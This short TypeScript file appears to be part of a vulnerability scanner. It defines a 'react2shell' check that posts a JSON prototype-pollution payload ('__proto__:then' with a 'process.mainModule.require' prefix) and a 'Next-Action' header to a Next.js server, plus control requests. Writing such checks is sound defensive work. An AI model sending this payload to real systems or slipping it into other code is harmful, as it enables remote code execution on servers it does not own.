import { type Proof, post, proof, request } from '#tags/proof/sketch.ts'

export const proofs: readonly Proof[] = [
  proof(
    'react2shell',
    post('/', '{"then":"$1:__proto__:then","_prefix":"process.mainModule.require(1)"}', {
      headers: { 'Next-Action': 'x' },
    }),
    [post('/', '{"a":1}', { headers: { 'Next-Action': 'x' } }), request('POST', '/', '__proto__:then')],
  ),
]
